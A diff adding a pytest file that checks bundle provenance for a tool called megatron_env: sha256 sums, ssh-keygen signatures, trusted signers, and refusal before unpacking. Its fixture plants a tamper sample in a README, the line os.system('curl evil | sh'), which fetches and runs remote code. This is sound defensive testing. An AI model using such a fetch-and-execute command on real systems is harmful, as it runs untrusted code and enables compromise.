@@ -1,0 +1,109 @@
+"""Bundle provenance with real ssh-keygen keys made here: a bundle edited with manifest.json
+re-hashed to match passes the corruption check (level none, as documented) and is refused by
+--expect-sha256 and by --trust; unsigned, badly signed and foreign-signed bundles are refused
+under --trust; through the front door nothing is unpacked before the refusal."""
+
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from megatron_env.bundle import offline, provenance
+from tests.conftest import user_error
+from tests.test_bundle_unpack import FILES, manifest, write_bundle
+
+ROOT = Path(__file__).resolve().parent.parent
+pytestmark = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="no ssh-keygen")
+
+
+def keypair(d: Path, name: str) -> Path:
+    key = d / name
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)],
+                   check=True)
+    return key
+
+
+@pytest.fixture
+def signed(tmp_path, monkeypatch):
+    """(good, tampered, allowed): a signed bundle, its re-hashed-manifest edit carrying the
+    good signature and sha256 file, and an allowed-signers file naming the maker."""
+    monkeypatch.setenv("MEGATRON_ENV_CACHE", str(tmp_path / "cache"))
+    key = keypair(tmp_path, "maker")
+    allowed = tmp_path / "allowed_signers"
+    allowed.write_text(f"maker@example.org {Path(str(key) + '.pub').read_text()}")
+    good = write_bundle(tmp_path / "good.tar", FILES)
+    provenance.write_sum(good)
+    provenance.sign(good, key)
+    edited = {**FILES, "source/README.md": b"import os; os.system('curl evil | sh')\n"}
+    tampered = write_bundle(tmp_path / "tampered.tar", edited, manifest(edited))
+    shutil.copy(provenance.sig_file(good), provenance.sig_file(tampered))
+    return good, tampered, allowed
+
+
+def test_sha256_file_is_sha256sum_format(signed):
+    good, _, _ = signed
+    r = subprocess.run(["sha256sum", "-c", provenance.sum_file(good).name], cwd=good.parent,
+                       capture_output=True, text=True)
+    assert r.returncode == 0 and "good.tar: OK" in r.stdout
+
+
+def test_rehashed_manifest_passes_the_corruption_check_but_not_sha256_or_signature(signed):
+    good, tampered, allowed = signed
+    # level none: the manifest matches its (edited) files, as docs/bundle.md says
+    assert provenance.check([tampered]).startswith("provenance: none")
+    root = offline.unpacked([tampered], lambda *_: None)
+    assert b"curl evil" in (root / "source/README.md").read_bytes()
+    good_sum = provenance.sum_file(good).read_text().split()[0]
+    with user_error("bundle.sha256_mismatch"):
+        provenance.check([tampered], expect_sha256=[good_sum])
+    with user_error("bundle.bad_signature"):
+        provenance.check([tampered], trust=allowed)
+    assert provenance.check([good], expect_sha256=[good_sum.upper()]).startswith(
+        "provenance: sha256")
+    assert provenance.check([good], trust=allowed) == (
+        "provenance: signature (signed by maker@example.org)")
+
+
+def test_unsigned_and_foreign_signed_bundles_are_refused_under_trust(signed, tmp_path):
+    good, _, allowed = signed
+    unsigned = shutil.copy(good, tmp_path / "unsigned.tar")
+    with user_error("bundle.unsigned"):
+        provenance.check([Path(unsigned)], trust=allowed)
+    other = shutil.copy(good, tmp_path / "other.tar")
+    provenance.sign(Path(other), keypair(tmp_path, "stranger"))
+    with user_error("bundle.untrusted"):
+        provenance.check([Path(other)], trust=allowed)
+    with user_error("bundle.trust_file"):
+        provenance.check([good], trust=tmp_path / "nowhere")
+    with user_error("bundle.provenance_dir"):
+        provenance.check([tmp_path], trust=allowed)
+
+
+def test_front_door_refuses_before_unpacking(signed, tmp_path):
+    good, tampered, allowed = signed
+    good_sum = provenance.sum_file(good).read_text().split()[0]
+    for extra in (["--trust", str(allowed)], ["--expect-sha256", good_sum]):
+        r = subprocess.run([sys.executable, "-m", "megatron_env", "setup", "--bundle",
+                            str(tampered), "--only", "lock", *extra], cwd=ROOT,
+                           capture_output=True, text=True, timeout=120)
+        assert r.returncode == 2, r.stderr
+        assert "nothing was unpacked" in r.stderr and "Traceback" not in r.stderr
+        assert not (tmp_path / "cache" / "bundles").exists()
+
+
+def test_setup_json_refusal_is_one_object_on_stdout(signed, tmp_path):
+    import json
+
+    good, tampered, allowed = signed
+    good_sum = provenance.sum_file(good).read_text().split()[0]
+    for extra, kind in ((["--trust", str(allowed)], "bundle.bad_signature"),
+                        (["--expect-sha256", good_sum], "bundle.sha256_mismatch")):
+        r = subprocess.run([sys.executable, "-m", "megatron_env", "setup", "--bundle",
+                            str(tampered), "--only", "lock", "--json", *extra], cwd=ROOT,
+                           capture_output=True, text=True, timeout=120)
+        assert r.returncode == 2 and r.stderr.count("error: ") == 1, r.stderr
+        doc = json.loads(r.stdout)
+        assert doc["ok"] is False and doc["error"]["kind"] == kind, doc
+        assert doc["command"] == "setup" and doc["error"]["message"] in r.stderr
